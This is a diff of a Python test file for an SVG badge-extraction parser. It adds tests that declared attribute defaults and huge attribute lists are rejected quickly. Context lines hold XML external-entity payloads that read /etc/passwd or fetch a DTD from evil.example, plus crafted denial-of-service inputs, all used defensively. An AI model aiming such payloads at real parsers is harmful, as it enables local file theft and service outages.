@@ -263,6 +263,7 @@ PACKED = zlib.compress(b"{}")
         (b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + svg("&a;"), "image_with_entities"),
         (b'<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/">%a;]>' + SVG, "image_"),
         (b'<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">' + svg("&a;"), "image_with_entities"),
+        (b'<!DOCTYPE svg [<!ATTLIST openbadges:credential verify CDATA "a.b.c">]>' + svg(ELEMENT), "image_with_entit"),
     ],
     ids=shown,
 )
@@ -300,6 +301,26 @@ def test_i14_i15_an_image_that_is_a_bomb_does_not_go_off(image: bytes) -> None:
     _, peak = tracemalloc.get_traced_memory()
     tracemalloc.stop()
     assert peak < 40_000_000
+
+
+DEFAULTS = " ".join(f'a{number} CDATA "x"' for number in range(3000))
+
+
+@pytest.mark.parametrize(
+    ("image", "code"),
+    [
+        (f"<!DOCTYPE svg [<!ATTLIST g {DEFAULTS}>]>".encode() + svg("<g/>" * 20_000), "image_with_entities"),
+        (b"<!DOCTYPE svg [<!ATTLIST g a CDATA #IMPLIED>]>" + SVG, "image_with_entities"),
+        (svg(f"<g {' '.join(f'a{number} = {chr(39) * 2}' for number in range(100_001))}/>"), "image_too_complex"),
+    ],
+    ids=["defaults", "one", "attributes"],
+)
+def test_attributes_are_not_multiplied(image: bytes, code: str) -> None:
+    """A hundred kilobytes of declared attributes and empty tags took eight seconds."""
+    started = time.process_time()
+    with pytest.raises(Invalid, match=code):
+        unbake(image)
+    assert time.process_time() - started < 0.1
 
 
 def test_an_image_that_is_too_large_is_not_looked_into() -> None:
